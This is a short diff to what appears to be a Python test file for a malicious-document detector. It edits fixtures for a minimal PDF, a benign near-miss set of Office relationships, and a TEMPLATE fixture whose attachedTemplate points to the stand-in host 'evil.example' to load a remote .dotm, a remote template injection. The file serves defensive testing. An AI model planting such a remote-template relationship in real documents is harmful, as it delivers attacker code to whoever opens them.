@@ -86,8 +86,9 @@ PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
 TEMPLATE = (
     b"""<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>"""
 )
-NEAR = b"""<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>
-<Relationship Type="http://x/hyperlink" Target="https://mujer.gob.do" TargetMode="External"/>"""
+NEAR = b"""<Relationships>
+<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>
+<Relationship Type="http://x/hyperlink" Target="https://mujer.gob.do" TargetMode="External"/></Relationships>"""
 
 
 def pdf(thing: bytes) -> bytes:
